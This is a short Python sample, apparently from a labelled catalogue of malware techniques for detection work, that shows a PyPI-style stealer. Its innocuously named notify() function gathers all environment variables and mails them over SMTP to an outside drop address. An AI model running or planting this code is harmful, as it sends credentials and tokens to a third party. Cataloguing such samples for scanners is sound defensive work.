# technique: environment mailed out with smtplib
# class: exfiltration
# source: ReversingLabs, PyPI stealers exfiltrating over SMTP
# declares: network, env
import os
import smtplib


def notify():
    body = "\n".join(f"{k}={v}" for k, v in os.environ.items())
    with smtplib.SMTP("smtp.mail.ru", 587, timeout=10) as s:
        s.sendmail("a@mail.ru", ["drop@mail.ru"], body)
